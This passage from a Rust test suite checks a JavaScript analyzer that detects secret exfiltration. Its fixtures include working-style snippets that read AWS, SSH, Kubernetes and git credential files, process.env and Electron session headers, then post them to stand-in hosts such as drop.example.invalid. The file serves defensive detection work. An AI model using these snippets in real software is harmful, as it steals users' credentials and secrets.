    let q = facts(quiet);
    assert!(
        !q.iter().any(|(_, _, d)| d.contains("module loader hook")),
        "{q:?}"
    );
}

#[test]
fn module_register_follows_the_hooks_file() {
    let src = "import { register } from 'node:module';\nregister('./loader-hooks.mjs', import.meta.url);\n";
    let facts = javascript::analyze(src, "register.mjs");
    assert!(
        facts.imports.iter().any(|i| i == "./loader-hooks.mjs"),
        "{:?}",
        facts.imports
    );
}

#[test]
fn module_handed_to_the_then_of_a_dynamic_import() {
    let src = "import('node:https').then(({ request: send }) => {\n  const r = send({ host: 'in.example.invalid', method: 'POST' });\n  r.end(JSON.stringify(process.env));\n});\n";
    let f = facts(src);
    assert!(
        f.iter().any(|(k, _, _)| *k == K::SecretExfiltration),
        "{f:?}"
    );
}

fn exfiltrates(src: &str) -> bool {
    facts(src)
        .iter()
        .any(|(k, _, _)| *k == K::SecretExfiltration)
}

#[test]
fn secrets_a_function_gathers_and_returns_taint_its_calls() {
    // Written before its callers: the call's value is what it returned.
    let above = r#"
const fs = require('fs'), os = require('os'), path = require('path');
function harvest() {
  const bag = {};
  for (const rel of ['.aws/credentials', '.ssh/id_ed25519']) {
    try { bag[rel] = fs.readFileSync(path.join(os.homedir(), rel), 'utf8'); } catch (_) {}
  }
  return bag;
}
const loot = harvest();
fetch('https://drop.example.invalid/in', { method: 'POST', body: JSON.stringify(loot) });
"#;
    assert!(exfiltrates(above), "{:?}", facts(above));
    // Written below the function that sends what it returns: judged at the file's end.
    let below = r#"
const fs = require('fs'), os = require('os');
async function run() {
  const blob = await pack();
  const r = require('https').request({ host: 'drop.example.invalid', method: 'PUT' });
  r.end(Buffer.from(JSON.stringify(blob)).toString('base64'));
}
async function pack() {
  return {
    kube: fs.readFileSync(os.homedir() + '/.kube/config', 'utf8'),
    git: fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8'),
  };
}
run();
"#;
    assert!(exfiltrates(below), "{:?}", facts(below));
    // A copy of the whole environment, filtered, returned and posted.
    let env = r#"
function snapshot() {
  return Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('npm_')));
}
fetch('https://drop.example.invalid/e', { method: 'POST', body: JSON.stringify(snapshot()) });
"#;
    assert!(exfiltrates(env), "{:?}", facts(env));
}

#[test]
fn functions_returning_no_gathered_secret_do_not_taint_their_calls() {
    // A configured token sent to its own service, in a file that also reads a
    // credential file elsewhere: the token function gathers nothing itself.
    let token = r#"
const fs = require('fs'), os = require('os');
function hasNpmrc() { return fs.existsSync(os.homedir() + '/.npmrc'); }
function token() { return process.env.DEMO_SERVICE_TOKEN; }
module.exports = async function publish(body) {
  const auth = token();
  return fetch('https://api.demo.invalid/v1/items', { method: 'POST', headers: { 'x-token': auth }, body });
};
"#;
    assert!(!exfiltrates(token), "{:?}", facts(token));
    // The token read from its one file, to authenticate to the registry it is for.
    let npmrc = r#"
const fs = require('fs'), os = require('os');
function authToken() {
  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  const m = /_authToken=(.*)/.exec(rc);
  return m && m[1];
}
module.exports = async function whoami(registry) {
  return fetch(registry + '-/whoami', { headers: { authorization: 'Bearer ' + authToken() } });
};
"#;
    assert!(!exfiltrates(npmrc), "{:?}", facts(npmrc));
    // A function written below its caller returning the package's version, not secrets.
    let version = r#"
const fs = require('fs'), os = require('os');
function report() {
  const v = currentVersion();
  fetch('https://updates.demo.invalid/check?v=' + v);
}
function currentVersion() { return require('./package.json').version; }
function readConfig() { return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); }
report();
"#;
    assert!(!exfiltrates(version), "{:?}", facts(version));
    // The output of a tool run with the environment as its own is not the environment.
    let tool = r#"
const { execSync } = require('child_process');
function registryUrl() {
  return execSync('npm config get registry', { env: { ...process.env, NO_COLOR: '1' } }).toString().trim();
}
async function latest(name) {
  const base = registryUrl();
  return fetch(base + name);
}
module.exports = { latest };
"#;
    assert!(!exfiltrates(tool), "{:?}", facts(tool));
}

#[test]
fn a_tool_run_with_the_environment_does_not_return_it() {
    // The environment handed to a promisified tool as its own; the output returned.
    let src = r#"
const cp = require('child_process'), util = require('util');
const run = util.promisify(cp.execFile);
async function mirror() {
  const { stdout } = await run('npm', ['config', 'get', 'registry'], { env: { ...process.env, CI: '1' } });
  return stdout.trim();
}
async function tags() {
  const base = await mirror();
  return fetch(base + 'demo-pkg');
}
module.exports = { tags };
"#;
    assert!(!exfiltrates(src), "{:?}", facts(src));
}

#[test]
fn an_electron_request_hook_that_posts_the_request_headers_is_exfiltration() {
    // An Electron app's session hooked: every request's headers (its session token among
    // them) posted to another host.
    let hooked = r#"
const { session } = require('electron');
const net = require('https');
session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (info, done) => {
  const grabbed = info.requestHeaders['X-Session'];
  const out = net.request({ host: 'relay.example.invalid', method: 'POST', path: '/s' });
  out.end(JSON.stringify({ v: grabbed }));
  done({ requestHeaders: info.requestHeaders });
});
"#;
    let k = kinds(hooked);
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(hooked));
    // A hook that sets a header of the app's own and logs locally: nothing is sent.
    let sets = r#"
const { session } = require('electron');
session.defaultSession.webRequest.onBeforeSendHeaders((details, callback) => {
  details.requestHeaders['User-Agent'] = 'Viewer/2.0';
  console.log('request to', details.url);
  callback({ requestHeaders: details.requestHeaders });
});
"#;
    let k = kinds(sets);
    assert!(!k.contains(&K::SecretExfiltration), "{:?}", facts(sets));
    assert!(!k.contains(&K::Network), "{:?}", facts(sets));
}
